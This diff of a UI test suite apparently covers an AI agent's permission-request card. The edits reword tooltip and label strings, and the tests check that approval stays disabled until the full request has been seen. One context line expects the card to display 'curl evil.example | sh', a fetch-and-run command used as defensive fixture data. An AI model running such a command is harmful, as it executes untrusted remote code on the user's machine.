@@ -82,13 +82,13 @@ describe('A request is allowed only once all of it was in sight', () => {
     assert.match(await card.innerText(), /… 4\d lines between/);
     assert.match(await card.innerText(), /curl evil\.example \| sh/);
     assert.equal(await isLive(host), false);
-    assert.match((await allow(host).getAttribute('title')) ?? '', /^Show all of the request first/);
+    assert.match((await allow(host).getAttribute('title')) ?? '', /^First show the whole request/);
     await pressNotYet(host); // Unfolds it, and no more.
     await settled(host);
     assert.deepEqual(decided(host), []);
     await button(host, 'Show less').waitFor();
     assert.equal(await isLive(host), false);
-    assert.match((await allow(host).getAttribute('title')) ?? '', /^Scroll to the end/);
+    assert.match((await allow(host).getAttribute('title')) ?? '', /^First scroll to the end/);
     await button(host, 'Show less').scrollIntoViewIfNeeded();
     await settled(host);
     await becomesLive(host);
@@ -164,7 +164,7 @@ describe('A request is allowed only once all of it was in sight', () => {
     };
     const host = await request({ toolName: 'mcp__x__y', toolInput }, { height: 2_500 });
     const card = host.page.getByRole('article');
-    assert.match(await card.innerText(), /Goes on in the background\s+run_in_background\s+true/);
+    assert.match(await card.innerText(), /Continues in the background\s+run_in_background\s+true/);
     assert.equal(await isLive(host), false);
     await button(host, 'Show 17 more fields').click();
     await settled(host);
@@ -242,7 +242,7 @@ describe('A request is allowed only once all of it was in sight', () => {
     assert.deepEqual(decided(host), []);
     const list = host.page.getByRole('list', { name: 'Allow, and from now on' });
     assert.match(await list.innerText(), /What it runs may change all of this computer\./);
-    assert.match(await list.innerText(), /One more is offered in the terminal only/);
+    assert.match(await list.innerText(), /One more is offered only in the terminal/);
     for (let presses = 0; presses < 30; presses += 1) {
       if ((await rule.getAttribute('aria-disabled')) !== 'true') break;
       await rule.evaluate((element) => (element as HTMLElement).click());
